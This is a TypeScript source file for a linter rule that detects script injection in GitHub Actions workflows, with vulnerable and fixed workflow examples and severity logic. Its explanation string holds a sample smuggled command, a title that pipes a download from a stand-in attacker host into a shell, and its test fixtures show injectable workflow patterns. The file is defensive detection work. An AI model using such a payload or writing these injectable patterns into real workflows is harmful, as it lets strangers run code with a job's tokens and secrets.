import type { Severity } from '../../model/finding.ts';
import type { Workflow } from '../../model/workflow.ts';
import { bad, defineRule, good } from '../rule.ts';
import { intoEnvironment } from '../shared/script-environment.ts';
import { envOf, stepLabel, strangerTrigger, triggerOf, usersOf } from '../shared/workflow.ts';
import { steps, workflow } from '../shared/workflow-example.ts';
import { scriptsOf } from '../shared/workflow-places.ts';
import { taintOf } from '../shared/workflow-taint.ts';

export default defineRule({
  id: 'script-injection',
  area: 'ci',
  severity: 'critical',
  aliases: [
    'checkov:CKV_GHA_2',
    'kics:run_block_injection',
    'kics:script_block_injection',
    'zizmor:template-injection',
    'actionlint:untrusted-inputs',
  ],
  title: 'A value that a stranger chooses is put into a script',
  why: 'The value is put in before the shell reads the text: a title like `"; curl evil.example | sh #` runs as a command, with the token and secrets of the job.',
  fix: 'Set the value as an environment variable of the step, and use `"$TITLE"` in the script.',
  references: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
  on: 'expression',
  *check(expression, context) {
    const { workflow, job, step, action, project } = context;
    if (
      step === undefined ||
      !scriptsOf(step).some(({ span }) => span.start === expression.within.span.start)
    )
      return;
    const around = { workflow, job, env: envOf(workflow, job, step) };
    const taint = taintOf(expression.tree, around);
    if (taint === undefined) return;
    yield {
      at: expression.span,
      message: `${taint}, which a stranger chooses, is put into the script of ${stepLabel(step)}`,
      ...intoEnvironment(project, context, step, expression, false),
      severity: severityIn(action === undefined ? [workflow] : usersOf(project, action)),
    };
  },
  examples: [
    bad(
      steps(
        `
      - parallel:
          - run: npm run lint
          - run: echo "\${{ github.event.issue.title }}"
    `,
        'on: issues',
      ),
      '.github/workflows/ci.yml:8:24',
      {
        '.github/workflows/ci.yml': `
          on: issues
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - parallel:
                    - run: npm run lint
                    - run: echo "\${ISSUE_TITLE}"
                      env:
                        ISSUE_TITLE: \${{ github.event.issue.title }}
        `,
      },
    ),
    bad(
      steps(
        `
      - run: echo "Thanks for \${{ github.event.issue.title }}"
      - uses: actions/github-script@v7
        with:
          script: core.info('\${{ github.event.comment.body }}')
    `,
        'on: issue_comment',
      ),
      ['.github/workflows/ci.yml:6:31', '.github/workflows/ci.yml:9:30'],
      {
        '.github/workflows/ci.yml': `
          on: issue_comment
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: echo "Thanks for \${ISSUE_TITLE}"
                  env:
                    ISSUE_TITLE: \${{ github.event.issue.title }}
                - uses: actions/github-script@v7
                  with:
                    script: core.info('\${{ github.event.comment.body }}')
        `,
      },
    ),
    bad(
      workflow(`
      on: pull_request_target
      env:
        BRANCH: \${{ github.head_ref }}
      jobs:
        build:
          runs-on: ubuntu-24.04
          steps:
            - run: git checkout \${{ env.BRANCH }}
    `),
      '.github/workflows/ci.yml:8:27',
      {
        '.github/workflows/ci.yml': `
          on: pull_request_target
          env:
            BRANCH: \${{ github.head_ref }}
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: git checkout "\${BRANCH}"
        `,
      },
    ),
    bad(
      workflow(`
      on: [issues, pull_request_target]
      env: {HEAD_REF: main}
      jobs:
        label:
          runs-on: ubuntu-24.04
          steps:
            - name: Say it
              # for those who read the log
              run: |
                echo "Title: \${{ github.event.issue.title }}" # as written
                echo \${{ github.event.issue.body }} >> "$(mktemp)"
                curl -d '{"title": "\${{ github.event.issue.title }}"}' https://example.com
                cat <<EOF
                \${{ github.event.issue.body }}
                EOF
              env:
                  KIND: issue # of two

            - run: echo "\${{ github.head_ref }}"
            - run: Write-Output "\${{ github.event.issue.title }}"
              shell: pwsh
    `),
      [
        '.github/workflows/ci.yml:10:24',
        '.github/workflows/ci.yml:11:16',
        '.github/workflows/ci.yml:12:31',
        '.github/workflows/ci.yml:14:11',
        '.github/workflows/ci.yml:19:20',
        '.github/workflows/ci.yml:20:28',
      ],
      {
        '.github/workflows/ci.yml': `
          on: [issues, pull_request_target]
          env: {HEAD_REF: main}
          jobs:
            label:
              runs-on: ubuntu-24.04
              steps:
                - name: Say it
                  # for those who read the log
                  run: |
                    echo "Title: \${ISSUE_TITLE}" # as written
                    echo "\${ISSUE_BODY}" >> "$(mktemp)"
                    curl -d '{"title": "\${{ github.event.issue.title }}"}' https://example.com
                    cat <<EOF
                    \${{ github.event.issue.body }}
                    EOF
                  env:
                      KIND: issue # of two
                      ISSUE_TITLE: \${{ github.event.issue.title }}
                      ISSUE_BODY: \${{ github.event.issue.body }}

                - run: echo "\${{ github.head_ref }}"
                - run: Write-Output "\${{ github.event.issue.title }}"
                  shell: pwsh
        `,
      },
    ),
    bad(
      steps(
        `
      - run: echo '\${{ toJSON(github.event) }}' > event.json
      - run: |
          cat <<EOF
          \${{ toJSON(github.event.issue) }} \${{ github.event.pages[0].page_name }}
          EOF
    `,
        'on: issue_comment',
      ),
      ['.github/workflows/ci.yml:6:20', '.github/workflows/ci.yml:9:11', '.github/workflows/ci.yml:9:45'],
    ),
    bad(
      steps(
        `
      - run: make
      - parallel:
          - run: npm test
          - run: |
              cat <<EOF
              \${{ github.event.issue.title }}
              EOF
    `,
        'on: issues',
      ),
      '.github/workflows/ci.yml:11:15',
    ),
    good(
      steps(
        `
      - run: echo "Thanks for $TITLE"
        env:
          TITLE: \${{ github.event.issue.title }}
      - run: echo \${{ contains(github.event.comment.body, '/deploy') && 'yes' || 'no' }}
      - run: echo \${{ github.event.issue.number }}
    `,
        'on: issue_comment',
      ),
    ),
    good(
      steps(
        `
      - run: echo '\${{ toJSON(github.event) }}'
      - run: echo '\${{ toJSON(github.event.inputs) }}' \${{ contains(toJSON(github.event.issue), 'bug') }}
    `,
        'on: workflow_dispatch',
      ),
    ),
    // The branch is one of those that the workflow names.
    good(
      workflow(`
      on:
        workflow_run:
          workflows: [CI]
          types: [completed]
          branches: [update/main]
      jobs:
        merge:
          runs-on: ubuntu-24.04
          steps:
            - run: echo "\${{ github.event.workflow_run.head_branch }}"
    `),
    ),
  ],
});

/** On `pull_request` the run of a fork has no secrets, and its author could change the script anyway. */
function severityIn(workflows: readonly (Workflow | undefined)[]): Severity {
  if (workflows.some((workflow) => strangerTrigger(workflow) !== undefined)) return 'critical';
  const events = ['push', 'pull_request_review', 'pull_request_review_comment', 'workflow_call'];
  const isPrivileged = workflows.some((workflow) => triggerOf(workflow, ...events) !== undefined);
  return isPrivileged || workflows.length === 0 ? 'high' : 'medium';
}
